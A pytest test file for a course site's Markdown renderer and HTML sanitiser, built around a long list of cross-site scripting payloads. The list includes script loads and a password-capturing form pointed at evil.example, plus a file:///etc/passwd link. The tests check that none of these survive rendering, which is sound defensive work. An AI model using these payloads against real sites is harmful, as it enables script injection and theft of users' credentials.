"""Whatever an author writes, the page runs none of it (and staff are authors too)."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.rendering import Library, render, render_inline, render_short
from courses.rendering.sanitise import ATTRIBUTES, TAGS, VALUES, sanitise

PAYLOADS = [
    # plain elements and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d\x0a>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)>",
    '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1)&gt;">',
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script>',
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "<embed src=javascript:alert(1)>",
    "<applet code=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<p style=position:fixed;inset:0>cover</p>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example/><input name=password></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    "<a onmouseover=alert(1)>x</a>",
    "<a href=https://ok.example target=_blank>x</a>",
    "<p id=x onclick=alert(1)>x</p>",
    "<div class=callout onpointerenter=alert(1)>x</div>",
    "<table background=javascript:alert(1)><td>x</table>",
    '<br size="&{alert(1)}">',
    "<x onclick=alert(1)>x</x>",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<!DOCTYPE html SYSTEM "javascript:alert(1)">',
    "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>",
    "<slot onslotchange=alert(1)>",
    # what our own front end would obey
    "<div hx-get=/x hx-trigger=load>x</div>",
    "<div data-hx-get=/x data-hx-trigger=load>x</div>",
    "<div hx-on::load=alert(1)>x</div>",
    "<a hx-post=/logout href=#>x</a>",
    "<p data-key=1 data-mark=cite data-text=x>x</p>",
    "<span data-insert=figure data-key=zork>x</span>",
    '<div id="part:0"></div>',
    # Markdown's own ways
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\/evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://ok.example@evil.example)",
    '[x](https://" onmouseover="alert(1))',
    '[x](https://a.example/" onmouseover="alert(1))',
    '[x](https://a.example "t\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "![x](javascript:alert(1))",
    '![x](https://a.example/x.png"onerror="alert(1))',
    '![" onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '``` "><script>alert(1)</script>\nx\n```',
    "    <script>alert(1)</script>",
    "# x {: onclick=alert(1) }",
    "x\n{: #a onclick=alert(1) }",
    'x\n{: #"><script>alert(1)</script> }',
    "x\n{: style=position:fixed hx-get=/x }",
    '|<script>alert(1)</script>|b|\n|--|--|\n|x" onclick="alert(1)|y|',
    '!!! note" onclick="alert(1) "x"\n    y',
    '!!! note "<img src=x onerror=alert(1)>"\n    y',
    '!!! "><script>alert(1)</script>\n    y',
    '[@waltz1979, "><script>alert(1)</script>]',
    "[@waltz1979, <img src=x onerror=alert(1)>]",
    '[@zork" onclick="alert(1)]',
    '[[zork" onclick="alert(1)]]',
    "[[anarchy|<img src=x onerror=alert(1)>]]",
    "[[<script>alert(1)</script>]]",
    '{{ figure: x"onload=alert(1) }}',
    "x[^a]\n\n[^a]: <img src=x onerror=alert(1)>",
    "x[^a]\n\n[^a]: [y](javascript:alert(1))",
    "*[x]: <script>alert(1)</script>\n\nx",
    "Term<script>alert(1)</script>\n:   <svg onload=alert(1)>",
    "\x02klzzwxh:0000\x03<script>alert(1)</script>",
    "\x02wzxhzdk:0\x03\x02code:0\x03",
    "\x02amp\x03lt;script\x02amp\x03gt;alert(1)",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "\ufeff<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<img\u2028src=x\u2028onerror=alert(1)>",
]

LIBRARY = Library({"waltz1979": "Waltz 1979"}, {"anarchy": "anarchy"})


class Seen(HTMLParser):
    """Every tag and attribute that a browser would meet."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        listed = ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | set(VALUES.get(tag, ()))
        assert name in listed | {"class"}
        if name == "href":
            assert re.match(r"https://|#|/(?![/\\])", value), value
    # Whatever was dropped as code must not have survived as a comment or an instruction.
    assert "<!" not in html
    assert "<?" not in html


def test_there_are_more_than_a_hundred_payloads():
    assert len(set(PAYLOADS)) > 150


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_an_author_writes_runs(payload: str):
    for text in (
        payload,
        f"Before {payload} after\n{{: #a }}",
        f"- item\n\n    {payload}",
        f"> {payload}",
        f'!!! note "{payload}"\n    {payload}',
        f"| {payload} | b |\n|---|---|\n| {payload} | c |",
        f"Text[^n]\n\n[^n]: {payload}",
        f"*{payload}* [{payload}](https://a.example)",
    ):
        assert_harmless(render(text, LIBRARY).html)
        assert_harmless(render_short(text, LIBRARY, field="f")[0])
        assert_harmless(render_inline(text, LIBRARY, field="f")[0])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_last_step_alone_would_do(payload: str):
    """Even if the parser let HTML through: the allow-list does not depend on it."""
    assert_link_schemes(sanitise(payload))
    assert_link_schemes(sanitise(f"<p>{payload}</p>"))


def assert_link_schemes(html: str) -> None:
    seen = Seen(html)
    assert seen.tags <= TAGS
    for tag, name, value in seen.attributes:
        assert name in {"class"} | ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | set(
            VALUES.get(tag, ())
        )
        if name == "href":
            assert not re.match(r"(?!https:)[a-z][a-z0-9+.-]*:", value.strip().lower()), value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_labels_titles_and_keys_of_the_library_are_text(payload: str):
    library = Library({"s": payload}, {"t": payload})
    assert_harmless(render("[@s, p. 1] and [[t]]\n{: #a }", library).html)


@given(
    st.lists(
        st.sampled_from(
            [
                *("<", ">", '"', "'", "=", "&", ";", "`", "*", "_", "[", "]", "(", ")", "!", "\\"),
                *("\n", "    ", "{", "}", ":", "#", "|", "-", "\x00", "\x02", "\x03", "/", "a"),
                *(
                    "script",
                    "onload",
                    "javascript:",
                    "hx-get",
                    "style",
                    "https://",
                    "[@",
                    "[[",
                    "]]",
                ),
                *(
                    "[^a]",
                    "[^a]: ",
                    "{: #a }",
                    "!!! note\n    ",
                    "```\n",
                    "{{ figure: a }}\n",
                    "img",
                ),
            ]
        ),
        max_size=60,
    ).map("".join)
)
@settings(max_examples=1000, deadline=None)
def test_no_mixture_of_signs_runs(text: str):
    assert_harmless(render(text, LIBRARY).html)
    assert_harmless(render_inline(text, LIBRARY, field="f")[0])
